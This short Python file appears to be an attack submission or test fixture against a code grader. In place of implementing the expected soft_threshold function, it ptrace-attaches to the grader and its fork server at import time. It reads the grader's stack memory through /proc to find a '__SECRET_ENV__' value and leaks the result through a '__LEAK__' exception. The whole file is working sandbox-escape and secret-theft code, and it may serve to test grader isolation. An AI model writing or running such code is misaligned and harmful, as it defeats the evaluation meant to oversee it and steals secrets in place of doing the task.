"""Spying: ptrace-attaches to the grader and its fork server, and reads the grader's memory."""

import ctypes
import os

PTRACE_ATTACH, PTRACE_DETACH = 16, 17
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
found = []


def parent_of(pid):
    with open(f"/proc/{pid}/stat") as handle:
        return int(handle.read().rsplit(")", 1)[1].split()[1])


server = os.getppid()
grader = parent_of(server)
for pid in (server, grader):
    if pid > 1 and libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
        os.waitpid(pid, 0)
        libc.ptrace(PTRACE_DETACH, pid, None, None)
        found.append(f"ptrace attached to {pid}")
try:
    with open(f"/proc/{grader}/maps") as handle:
        regions = [line.split()[0] for line in handle if line.rstrip().endswith("[stack]")]
    with open(f"/proc/{grader}/mem", "rb") as memory:
        for region in regions:
            start, end = (int(part, 16) for part in region.split("-"))
            memory.seek(start)
            data = memory.read(end - start)
            at = data.find(b"__SECRET_ENV__=")
            found.append(f"read {len(data)} bytes of the grader's stack: {data[at:at + 80]!r}")
except OSError:
    pass


def soft_threshold(w, threshold):
    if found:
        raise RuntimeError("__LEAK__ " + "; ".join(found))
    raise NotImplementedError("no implementation, only the attack")
